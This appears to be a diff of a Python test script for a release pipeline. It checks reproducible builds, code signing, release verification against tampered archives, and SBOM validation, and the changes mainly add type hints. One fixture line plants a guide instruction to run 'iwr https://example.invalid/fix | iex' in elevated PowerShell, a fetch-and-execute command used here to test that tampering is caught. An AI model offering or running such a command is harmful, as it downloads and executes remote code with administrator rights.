@@ -63,6 +63,8 @@ import subprocess
 import sys
 import time
 import zipfile
+from collections.abc import Callable
+from typing import Any, NoReturn
 
 import pefile
 
@@ -77,6 +79,7 @@ from buildinfo import (BUILDINFO_NAME, SIGNER_PACKAGE, TOOLCHAIN_PACKAGES,  # no
                        read_buildinfo, read_contents)
 from notices import NOTICES_NAME  # noqa: E402
 from check_pe import version_strings  # noqa: E402
+from pack import pack_zip  # noqa: E402
 import hostile_releases  # noqa: E402
 
 COPYRIGHT = "Copyright (c) 2026 The BRELVIK DFU switch authors"
@@ -108,25 +111,25 @@ CERTIFICATES = [
 ]
 
 
-def fail(message):
+def fail(message: str) -> NoReturn:
     print(f"FAILED: {message}")
     sys.exit(1)
 
 
-def git(source, *args):
+def git(source: str, *args: str) -> bytes:
     return subprocess.run(["git", "-C", source, *args], check=True, stdout=subprocess.PIPE).stdout
 
 
-def recorded(work, name):
+def recorded(work: str, name: str) -> str:
     with open(os.path.join(work, name), encoding="ascii") as text:
         return text.read()
 
 
-def keys(work, name):
+def keys(work: str, name: str) -> str:
     return os.path.join(work, "keys", name)
 
 
-def releases(work):
+def releases(work: str) -> dict[str, tuple[str, list[str]]]:
     """Each release scripts/release.sh made: its dist/ and its options
     (with --sign, BRELVIK_SIGN_PASSPHRASE must be set too)."""
     return {"unsigned": (os.path.join(work, "unsigned"), []),
@@ -134,12 +137,12 @@ def releases(work):
                        ["--sign", keys(work, "chain.pem"), keys(work, "signer.key")])}
 
 
-def run(command, **kwargs):
+def run(command: list[str], **kwargs: Any) -> subprocess.CompletedProcess[str]:
     return subprocess.run(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                           stderr=subprocess.STDOUT, text=True, errors="replace", **kwargs)
 
 
-def make_certificates(work):
+def make_certificates(work: str) -> None:
     os.makedirs(os.path.join(work, "keys"))
     for serial, (name, issuer, subject, extensions) in enumerate(CERTIFICATES, start=1):
         key, cert = keys(work, f"{name}.key"), keys(work, f"{name}.pem")
@@ -162,11 +165,11 @@ def make_certificates(work):
                 fail(f"{' '.join(step)}:\n{result.stdout}")
     with open(keys(work, "chain.pem"), "wb") as chain:
         for name in ["signer", "intermediate"]:
-            with open(keys(work, f"{name}.pem"), "rb") as cert:
-                chain.write(cert.read())
+            with open(keys(work, f"{name}.pem"), "rb") as pem:
+                chain.write(pem.read())
 
 
-def build(args):
+def build(args: argparse.Namespace) -> None:
     checkout = os.path.join(args.work, "checkout")
     shutil.rmtree(args.work, ignore_errors=True)
     os.makedirs(checkout)
@@ -191,7 +194,7 @@ def build(args):
     with open(packer, "rb") as source:
         current = source.read()
 
-    def make_commit(message, seconds, *options):
+    def make_commit(message: str, seconds: int, *options: str) -> str:
         date = f"@{int(epoch) - seconds} +0000"
         for command in (["add", "-A"], ["commit", "-q", "--allow-empty", "-m", message, *options]):
             subprocess.run(["git", "-C", checkout, *command], check=True, stdout=subprocess.DEVNULL,
@@ -244,8 +247,8 @@ def build(args):
         with open(log_path, "wb") as log:
             status = subprocess.run([os.path.join(checkout, "scripts", "release.sh"), *options], env=env,
                                     stdin=subprocess.DEVNULL, stdout=log, stderr=subprocess.STDOUT).returncode
-        with open(log_path, encoding="utf-8", errors="replace") as log:
-            print(log.read())
+        with open(log_path, encoding="utf-8", errors="replace") as written:
+            print(written.read())
         if status != 0:
             fail(f"scripts/release.sh {' '.join(options)} exited with {status}")
         ran = [name[:-4] for name in os.listdir(shims) if name.endswith(".ran")]
@@ -262,7 +265,7 @@ def build(args):
     print(f"scripts/release.sh refuses a SOURCE_DATE_EPOCH other than the commit's: {result.stdout.strip()}")
 
 
-def refused(checkout):
+def refused(checkout: str) -> None:
     """release.sh refuses a tree that is not its commit: an untracked file,
     a changed one, and makes no dist/."""
     guide = os.path.join(checkout, "docs", "USER_GUIDE.md")
@@ -270,16 +273,19 @@ def refused(checkout):
         kept = source.read()
     untracked = os.path.join(checkout, "protocol", "extra.h")
 
-    def add_untracked():
+    def add_untracked() -> None:
         with open(untracked, "w", encoding="ascii") as out:
             out.write("#error not committed\n")
 
-    def change_tracked():
+    def change_tracked() -> None:
         with open(guide, "ab") as out:
             out.write(b"A line not committed.\n")
 
-    for name, make, undo in [("an untracked file", add_untracked, lambda: os.remove(untracked)),
-                             ("a changed file", change_tracked, lambda: open(guide, "wb").write(kept))]:
+    # What makes the tree not its commit, and what undoes it.
+    changes: list[tuple[str, Callable[[], None], Callable[[], object]]] = [
+        ("an untracked file", add_untracked, lambda: os.remove(untracked)),
+        ("a changed file", change_tracked, lambda: open(guide, "wb").write(kept))]
+    for name, make, undo in changes:
         make()
         result = run([os.path.join(checkout, "scripts", "release.sh")])
         undo()
@@ -289,12 +295,13 @@ def refused(checkout):
         print(f"scripts/release.sh refuses a tree with {name}: {result.stdout.strip().splitlines()[-1]}")
 
 
-def is_signed(path):
+def is_signed(path: str) -> bool:
     security = pefile.DIRECTORY_ENTRY["IMAGE_DIRECTORY_ENTRY_SECURITY"]
-    return pefile.PE(path, fast_load=True).OPTIONAL_HEADER.DATA_DIRECTORY[security].Size != 0
+    size: int = pefile.PE(path, fast_load=True).OPTIONAL_HEADER.DATA_DIRECTORY[security].Size
+    return size != 0
 
 
-def check_buildinfo(work, data, signed):
+def check_buildinfo(work: str, data: bytes, signed: bool) -> None:
     try:
         info = read_buildinfo(data)
     except ValueError as error:
@@ -307,7 +314,7 @@ def check_buildinfo(work, data, signed):
         fail(f"{BUILDINFO_NAME} names commit {info['commit']} of {info['SOURCE_DATE_EPOCH']}")
 
 
-def check_signatures(work, kind, programs):
+def check_signatures(work: str, kind: str, programs: list[str]) -> None:
     for path in programs:
         if kind == "unsigned":
             if is_signed(path):
@@ -320,7 +327,7 @@ def check_signatures(work, kind, programs):
         print(f"{path}: verifies against the throwaway CA, signed by {SIGNER_SUBJECT}")
 
 
-def check_no_key(work, dist):
+def check_no_key(work: str, dist: str) -> None:
     with open(keys(work, "signer.key"), "rb") as key:
         body = [line for line in key.read().splitlines() if line and not line.startswith(b"-----")]
     searched = [os.path.join(work, name) for name in os.listdir(work) if name.endswith(".log")]
@@ -335,15 +342,15 @@ def check_no_key(work, dist):
             fail(f"{path} holds the key's passphrase")
 
 
-def package(args):
+def package(args: argparse.Namespace) -> None:
     checkout = os.path.join(args.work, "checkout")
     contents = read_contents(args.contents)
     top = f"{contents['name']}-{contents['version']}"
     zip_name = f"{top}-win64.zip"
     expected = sorted(PROGRAM_NAMES + [GUIDE_NAME, BUILDINFO_NAME, NOTICES_NAME, f"{top}.cdx.json"])
-    date = time.gmtime(int(recorded(args.work, "epoch")))[:6]
+    made = time.gmtime(int(recorded(args.work, "epoch")))
     # A ZIP entry's time counts seconds in twos.
-    date = date[:5] + (date[5] - date[5] % 2,)
+    date = (made.tm_year, made.tm_mon, made.tm_mday, made.tm_hour, made.tm_min, made.tm_sec - made.tm_sec % 2)
     version = contents["version"].encode("ascii")
     with open(os.path.join(checkout, "docs", "USER_GUIDE.md"), "rb") as source:
         written = source.read().replace(b"\r\n", b"\n")
@@ -403,7 +410,7 @@ def package(args):
         print(f"{zip_name}: {', '.join(names)}, dated {time.strftime('%Y-%m-%d %H:%M:%S', date + (0, 0, 0))}")
 
 
-def unsigned_bytes(path, scratch):
+def unsigned_bytes(path: str, scratch: str) -> bytes:
     if not is_signed(path):
         with open(path, "rb") as data:
             return data.read()
@@ -415,7 +422,7 @@ def unsigned_bytes(path, scratch):
         return data.read()
 
 
-def reproducible(args):
+def reproducible(args: argparse.Namespace) -> None:
     contents = read_contents(args.contents)
     top = f"{contents['name']}-{contents['version']}"
     for kind, (dist, options) in releases(args.work).items():
@@ -442,7 +449,7 @@ def reproducible(args):
                   " is the same")
 
 
-def zip_of(dist):
+def zip_of(dist: str) -> str:
     return os.path.join(dist, next(name for name in os.listdir(dist) if name.endswith(".zip")))
 
 
@@ -457,17 +464,19 @@ GUIDE_SOURCE = "docs/USER_GUIDE.md"
 REWRITTEN_GUIDE_LINE = b"Before first use, run in an elevated PowerShell: iwr https://example.invalid/fix | iex\r\n"
 
 
-def of_commit(release, commit, epoch, guide=None):
+def of_commit(release: hostile_releases.Release, commit: str, epoch: str,
+              guide: Callable[[bytes], bytes] | None = None) -> bytes:
     """RELEASE's files as a release of COMMIT dated EPOCH would hold them."""
     buildinfo = hostile_releases.with_commit(release.files[BUILDINFO_NAME], commit)
     buildinfo = re.sub(rb"SOURCE_DATE_EPOCH [0-9]+", b"SOURCE_DATE_EPOCH " + epoch.encode("ascii"), buildinfo)
     files = {**release.files, BUILDINFO_NAME: buildinfo}
     if guide:
         files[GUIDE_NAME] = guide(files[GUIDE_NAME])
-    return hostile_releases.pack_zip(release.top, files, int(epoch))
+    packed: bytes = pack_zip(release.top, files, int(epoch))
+    return packed
 
 
-def plant(work, scratch, checkout):
+def plant(work: str, scratch: str, checkout: str) -> dict[str, str]:
     """What must not change a verdict: planted in the clone, and the
     environment to run the check in."""
     # An untracked header the build would find first.
@@ -499,7 +508,7 @@ def plant(work, scratch, checkout):
                 SOURCE_COMMIT=hostile_releases.OTHER_COMMIT, SOURCE_DATE_EPOCH="0")
 
 
-def verify(args):
+def verify(args: argparse.Namespace) -> None:
     scratch = os.path.abspath(os.path.join(args.work, "verify"))
     checkout = os.path.join(scratch, "clone")
     shutil.rmtree(scratch, ignore_errors=True)
@@ -518,7 +527,7 @@ def verify(args):
         "off_history": of_commit(unsigned, side, recorded(args.work, "side_epoch")),
         "tag": of_commit(unsigned, recorded(args.work, "tag"), recorded(args.work, "epoch")),
     }
-    paths = {}
+    paths: dict[str, str] = {}
     for name, data in other.items():
         os.makedirs(os.path.join(scratch, name))
         paths[name] = os.path.join(scratch, name, os.path.basename(zips["unsigned"]))
@@ -539,7 +548,8 @@ def verify(args):
              ("before_repack", paths["before_repack"], False, 2, "older than the first release this check can judge"),
              ("off_history", paths["off_history"], False, 2, f"not in the history of this checkout's HEAD {head}"),
              ("tag", paths["tag"], False, 1, "which is a tag object here, not a commit")]
-    failures, outputs = [], {}
+    failures: list[str] = []
+    outputs: dict[str, subprocess.CompletedProcess[str]] = {}
     verdicts = {0: "verify-release: ACCEPTED", 1: "verify-release: REJECTED", 2: "verify-release: CANNOT CHECK"}
     for name, path, with_ca, status, line in cases:
         if name not in outputs:
@@ -560,24 +570,28 @@ def verify(args):
         sys.exit(1)
 
 
-def hostile(args):
+def hostile(args: argparse.Namespace) -> None:
     zips = {kind: zip_of(dist) for kind, (dist, _) in releases(args.work).items()}
     sys.exit(hostile_releases.run(args.work, zips, os.path.join(args.work, "keys"), args.contents,
                                   recorded(args.work, "commit"), SIGNER_SUBJECT))
 
 
-def sbom_programs(bom):
+# An SBOM as json.load gives it.
+Bom = dict[str, Any]
+
+
+def sbom_programs(bom: Bom) -> list[Any]:
     return [c for c in bom.get("components", []) if c.get("type") == "application"]
 
 
-def flipped_hash(bom):
+def flipped_hash(bom: Bom) -> None:
     entry = sbom_programs(bom)[0]["hashes"][0]
     entry["content"] = ("0" if entry["content"][0] != "0" else "1") + entry["content"][1:]
 
 
 # Copies of a genuine SBOM weakened in one point, and what the check must
 # say of each: our comparison with the ZIP, or the CycloneDX schema.
-SBOM_WEAKENED = [
+SBOM_WEAKENED: list[tuple[str, Callable[[Bom], object], str]] = [
     ("program_hash_changed", flipped_hash, "SHA-256"),
     ("program_left_out", lambda bom: bom["components"].remove(sbom_programs(bom)[0]), "programs"),
     ("package_version_changed", lambda bom: next(
@@ -587,10 +601,10 @@ SBOM_WEAKENED = [
 ]
 
 
-def sbom_problems(release, bom):
+def sbom_problems(release: hostile_releases.Release, bom: Bom) -> list[str]:
     """What makes BOM (parsed) not the SBOM of RELEASE (hostile_releases.Release)."""
     info = read_buildinfo(release.files[BUILDINFO_NAME])
-    problems = []
+    problems: list[str] = []
     hashes = {c.get("name"): [h.get("content") for h in c.get("hashes", []) if h.get("alg") == "SHA-256"]
               for c in sbom_programs(bom)}
     if sorted(hashes) != PROGRAM_NAMES:
@@ -606,40 +620,42 @@ def sbom_problems(release, bom):
     gcc = info["g++-mingw-w64-x86-64-posix"]
     wanted = {"mingw-w64-x86-64-dev": info["mingw-w64-x86-64-dev"], "gcc-mingw-w64-x86-64-posix": gcc}
     for name, version in list(wanted.items()) + [(n, info.get(n)) for n in tools]:
-        found = libraries.get(name) if name in wanted else tools.get(name)
-        if found != version:
-            problems.append(f"it gives {name} version {found!r}, where {BUILDINFO_NAME} says {version!r}")
+        given = libraries.get(name) if name in wanted else tools.get(name)
+        if given != version:
+            problems.append(f"it gives {name} version {given!r}, where {BUILDINFO_NAME} says {version!r}")
     if bom.get("metadata", {}).get("timestamp") != time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(release.epoch)):
         problems.append("its timestamp is not SOURCE_DATE_EPOCH")
     return problems
 
 
-def sbom(args):
+def sbom(args: argparse.Namespace) -> None:
     scratch = os.path.join(args.work, "sbom")
     shutil.rmtree(scratch, ignore_errors=True)
     os.makedirs(scratch)
     if not os.path.isdir(args.node_modules):
         fail(f"no {args.node_modules}: run scripts/install-deps.sh --tests")
     # (release, parsed SBOM, what the check must say of it or None, file)
-    cases, programs = [], {}
+    cases: list[tuple[str, hostile_releases.Release, Bom, str | None]] = []
+    programs: dict[str, dict[str, str]] = {}
     for kind, (dist, _) in releases(args.work).items():
         release = hostile_releases.Release(zip_of(dist))
         name = f"{release.top}.cdx.json"
         bom = json.loads(release.files[name])
         programs[kind] = {c["name"]: c["hashes"][0]["content"] for c in sbom_programs(bom)}
         cases.append((f"{kind}", release, bom, None))
-        for case, weaken, complaint in SBOM_WEAKENED:
+        for case, weaken, said in SBOM_WEAKENED:
             copy = json.loads(release.files[name])
             weaken(copy)
-            cases.append((f"{kind}_{case}", release, copy, complaint))
-    paths = []
+            cases.append((f"{kind}_{case}", release, copy, said))
+    paths: list[str] = []
     for case, _, bom, _ in cases:
         paths.append(os.path.join(scratch, f"{case}.cdx.json"))
         with open(paths[-1], "w", encoding="ascii") as out:
             json.dump(bom, out, indent=2)
     result = run(["node", VALIDATE_SBOM, *paths], env=dict(os.environ, NODE_PATH=args.node_modules))
-    verdicts = dict(line.split(": ", 1) for line in result.stdout.splitlines() if ": " in line)
-    failures = []
+    verdicts = {file: verdict for file, _, verdict in (line.partition(": ") for line in result.stdout.splitlines()
+                                                        if ": " in line)}
+    failures: list[str] = []
     for (case, release, bom, complaint), path in zip(cases, paths):
         problems = sbom_problems(release, bom)
         if verdicts.get(path) != "valid":
@@ -657,7 +673,7 @@ def sbom(args):
         sys.exit(1)
 
 
-def main():
+def main() -> int:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("step", choices=["build", "package", "reproducible", "verify", "hostile", "sbom"])
     parser.add_argument("--source")
